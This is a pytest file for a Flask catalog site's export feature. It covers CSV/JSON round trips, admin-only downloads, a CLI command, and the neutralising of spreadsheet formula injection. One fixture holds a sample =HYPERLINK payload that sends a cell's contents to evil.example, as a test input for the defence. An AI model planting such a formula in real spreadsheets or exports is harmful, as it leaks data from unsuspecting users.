"""Catalog export: every staff-set field out as CSV and JSON, the export → import round trip into an empty
database, spreadsheet formula injection, the download for admins only, and ``flask catalog export``."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import select
from sqlalchemy.orm import selectinload

from extensions import db
from models import Category, Tool, ToolPlatform
from services import clock
from services.catalog_file import load_vocabularies
from services.catalog_io import apply_plan, build_plan, export_catalog, read_import_file
from services.catalog_io.columns import COLUMNS, neutralise_cell, restore_cell
from services.catalog_io.export import export_records
from services.moderation.catalog_tools import platform_refs
from services.seeding import seed_catalog, seed_synthetic
from tests.accounts import make_user, sign_in

# Not catalog fields staff set: ids, this site's counters and times, files, accounts, benchmark filler.
NOT_EXPORTED = {"id", "created_at", "updated_at", "click_count", "favorite_count", "rating_count", "rating_avg",
                "logo_path", "vendor_id", "vendor_since", "pricing_verified_by_id", "is_synthetic"}
FORMULA_TEXTS = {
    "alpha-scout": {"price_note_zh": '=HYPERLINK("http://evil.example/?leak="&A1,"点我领券")',
                    "price_note_en": "+86 400 800 8888"},
    "mai-jia": {"tagline_en": "-20% off for new sellers", "tagline_zh": "@卖家 专享",
                "description_zh": "第一行，有逗号, 和 \"引号\"\r\n第二行", "description_en": "'=already quoted"},
}


@pytest.fixture
def rich_catalog(app, catalog):
    """The small catalog with every field in use: prices, notes, trials, facts, every status, a verified date,
    multi-line text, formula-like cells and a synthetic tool that must stay out of the export."""
    with app.app_context():
        tools = {tool.slug: tool for tool in db.session.scalars(select(Tool))}
        alpha = tools["alpha-scout"]
        alpha.price_from_cny, alpha.price_from_usd, alpha.trial_days = Decimal("1299.00"), Decimal("99.99"), 7
        alpha.pricing_verified_at = clock.now().replace(microsecond=123456) - timedelta(days=3)
        alpha.status = "hidden"
        tools["mai-jia"].status = "pending"
        tools["jp-keywords"].status = "dead_link"
        tools["jp-keywords"].china_direct, tools["jp-keywords"].cn_invoice = False, True
        tools["bravo-ads"].lifecycle = "acquired"
        tools["bravo-ads"].successor_id = tools["zulu-ai"].id
        for slug, texts in FORMULA_TEXTS.items():
            for column, text in texts.items():
                setattr(tools[slug], column, text)
        db.session.commit()
        seed_synthetic(3, seed=1)
    return app


def catalog_state(app) -> dict[str, dict]:
    """Every tool (not synthetic) by slug: every column but the unexported ones, with ids turned into slugs."""
    with app.app_context():
        categories = dict(db.session.execute(select(Category.id, Category.slug)).all())
        slugs = dict(db.session.execute(select(Tool.id, Tool.slug)).all())
        tools = db.session.scalars(select(Tool).where(Tool.is_synthetic.is_(False)).options(
            selectinload(Tool.tags), selectinload(Tool.platform_links).options(
                selectinload(ToolPlatform.platform), selectinload(ToolPlatform.market)))).all()
        state = {}
        for tool in tools:
            row = {column.key: getattr(tool, column.key) for column in Tool.__table__.columns
                   if column.key not in NOT_EXPORTED}
            row["category_id"] = categories[row["category_id"]]
            row["successor_id"] = slugs.get(row["successor_id"])
            row["tags"] = sorted(tag.slug for tag in tool.tags)
            row["platforms"] = sorted(platform_refs(tool))
            state[tool.slug] = row
        return state


def export_bytes(app, fmt: str) -> bytes:
    with app.app_context():
        return export_catalog(fmt)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_an_export_imported_into_an_empty_database_gives_the_same_catalog(app, rich_catalog, fmt, database_cleaner):
    before = catalog_state(app)
    assert len(before) == 12 and before["alpha-scout"]["status"] == "hidden"
    exported = export_bytes(app, fmt)

    with app.app_context():
        db.session.remove()
        database_cleaner.empty()
        seed_catalog(load_vocabularies())  # the vocabularies every site has from `flask seed`
    with app.app_context():
        plan = build_plan(read_import_file(exported, "auto", f"catalog.{fmt}"))
        assert plan.counts == {"new": 12, "duplicate": 0, "invalid": 0}, [
            (row.number, row.problems) for row in plan.rows if row.problems]
        assert plan.new_categories == []
        apply_plan(plan, actor_id=None)

    after = catalog_state(app)
    assert after.keys() == before.keys()
    for slug, fields in before.items():
        assert after[slug] == fields, slug
    # And importing the same file again finds nothing new.
    with app.app_context():
        plan = build_plan(read_import_file(exported, fmt))
        assert plan.counts == {"new": 0, "duplicate": 12, "invalid": 0}


def test_the_export_leaves_out_generated_tools_and_writes_every_column(app, rich_catalog):
    with app.app_context():
        records = export_records()
        assert len(records) == 12
        assert all(tuple(record) == COLUMNS for record in records)
        alpha = next(record for record in records if record["slug"] == "alpha-scout")
        assert alpha["platforms"] == ["amazon/us"] and alpha["tags"] == ["chrome-extension"]
        assert alpha["category"] == "pr-amazon" and alpha["price_from_usd"] == Decimal("99.99")
        assert alpha["pricing_verified_at"].endswith("+00:00")
        old = next(record for record in records if record["slug"] == "old-tool")
        assert (old["lifecycle"], old["successor"]) == ("shut_down", "alpha-scout")


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(app, rich_catalog):
    data = export_bytes(app, "csv")
    assert data.startswith(b"\xef\xbb\xbfslug,name,name_en,url,category,") and b"\r\n" in data
    rows = {row["slug"]: row for row in _csv_rows(data)}
    assert rows["alpha-scout"]["price_note_zh"] == "'" + FORMULA_TEXTS["alpha-scout"]["price_note_zh"]
    assert rows["alpha-scout"]["price_note_en"] == "'+86 400 800 8888"
    assert rows["mai-jia"]["tagline_en"] == "'-20% off for new sellers"
    assert rows["mai-jia"]["tagline_zh"] == "'@卖家 专享"
    assert rows["mai-jia"]["description_en"] == "''=already quoted"  # one more quote, taken off on import
    assert rows["mai-jia"]["description_zh"] == "第一行，有逗号, 和 \"引号\"\r\n第二行"
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (row["slug"], column)
    # JSON is not opened by spreadsheets: its values stay exactly as stored.
    tools = {tool["slug"]: tool for tool in json.loads(export_bytes(app, "json"))["tools"]}
    assert tools["mai-jia"]["tagline_en"] == "-20% off for new sellers"
    assert tools["alpha-scout"]["price_note_zh"] == FORMULA_TEXTS["alpha-scout"]["price_note_zh"]


@pytest.mark.parametrize("text", ["=1+1", "+86", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''@y", "'plain", "plain",
                                  "", "'", "a=b"])
def test_neutralising_a_cell_is_undone_exactly_by_the_import(text):
    cell = neutralise_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(cell) == text


def test_the_json_export_is_typed(app, rich_catalog):
    document = json.loads(export_bytes(app, "json"))
    assert (document["format"], document["version"], document["columns"]) == ("sellernav-catalog", 1, list(COLUMNS))
    tools = {tool["slug"]: tool for tool in document["tools"]}
    alpha, keywords = tools["alpha-scout"], tools["jp-keywords"]
    assert (alpha["price_from_cny"], alpha["price_from_usd"], alpha["trial_days"]) == (1299.0, 99.99, 7)
    assert (keywords["china_direct"], keywords["cn_invoice"], keywords["cn_payment"]) == (False, True, None)
    assert tools["mai-jia"]["name_en"] == "Seller Helper" and tools["alpha-scout"]["name_en"] is None


# ---- the download --------------------------------------------------------------------------------

def _client(app, name: str, phone: str, role: str):
    make_user(app, name, phone=phone, role=role)
    client = app.test_client()
    sign_in(client, name)
    return client


def test_an_admin_downloads_the_catalog_as_csv_or_json(app, rich_catalog):
    admin = _client(app, "adminuser", "+8613800000013", "admin")
    clock.freeze(clock.now().replace(year=2025, month=3, day=1, hour=2))
    response = admin.get("/staff/catalog/export")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="sellernav-catalog-20250301.csv"'
    assert "no-store" in response.headers["Cache-Control"]
    assert len(_csv_rows(response.data)) == 12
    response = admin.get("/en/staff/catalog/export?format=json")
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"] == 'attachment; filename="sellernav-catalog-20250301.json"'
    assert len(response.get_json()["tools"]) == 12
    assert admin.get("/staff/catalog/export?format=xlsx").status_code == 400


def test_moderators_and_users_cannot_download_the_catalog(app, catalog):
    for name, phone, role in (("moduser", "+8613800000012", "moderator"), ("plainuser", "+8613800000011", "user")):
        assert _client(app, name, phone, role).get("/staff/catalog/export?format=json").status_code == 403


# ---- flask catalog export ------------------------------------------------------------------------

def test_the_command_exports_to_standard_output_or_a_file(app, rich_catalog, runner, tmp_path):
    result = runner.invoke(args=["catalog", "export", "--format", "json"])
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.stdout)["tools"]) == 12
    target = tmp_path / "catalog.csv"
    result = runner.invoke(args=["catalog", "export", "--output", str(target)])
    assert result.exit_code == 0, result.output
    assert len(_csv_rows(target.read_bytes())) == 12
    assert f"wrote {target}" in result.stderr
